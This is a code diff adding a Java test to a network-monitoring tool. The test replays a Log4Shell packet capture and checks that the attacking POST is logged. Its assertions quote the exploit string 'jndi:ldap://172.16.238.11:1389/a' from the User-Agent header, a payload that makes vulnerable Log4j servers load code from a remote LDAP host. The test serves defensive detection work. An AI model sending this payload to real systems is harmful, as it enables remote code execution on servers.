@@ -73,6 +73,24 @@ class AppLayerOwnRulesTest {
     }
 
     @Test
+    void requestWithoutResponseIsLoggedWhenItsFlowEndsAndRecordsRunClientToServer(@TempDir Path dir) throws IOException {
+        // nDPI's Log4Shell capture: the POST carrying the attack never gets its response in the capture
+        List<JsonNode> ev = replay("log4shell/ndpi-log4j-webapp-exploit.pcap", "", false, dir);
+        List<JsonNode> http = ev.stream().filter(e -> "http".equals(e.path("event_type").asText())).toList();
+        JsonNode post = http.stream().filter(e -> e.path("http").path("url").asText().equals("/log4shell/login"))
+                .findFirst().orElseThrow(() -> new AssertionError("no record of the POST: " + http));
+        assertEquals("POST", post.path("http").path("http_method").asText());
+        assertEquals("jndi:ldap://172.16.238.11:1389/a", post.path("http").path("http_user_agent").asText());
+        assertEquals("172.16.238.1", post.path("src_ip").asText());
+        assertEquals(8080, post.path("dest_port").asInt());
+        // completed exchanges too name the client as src, whichever packet completed them (Suricata's flow direction)
+        assertEquals(3, http.size());
+        for (JsonNode h : http) {
+            assertTrue(h.path("dest_port").asInt() == 80 || h.path("dest_port").asInt() == 8080, h.toString());
+        }
+    }
+
+    @Test
     void tlsSniAndJa4InsideGeneve(@TempDir Path dir) throws IOException {
         List<JsonNode> ev = replay("geneve/zeek-geneve-47101.pcap",
                 "alert tls any any -> any any (msg:\"kernel.org\"; tls.sni; content:\"www.kernel.org\"; endswith; sid:3;)\n"
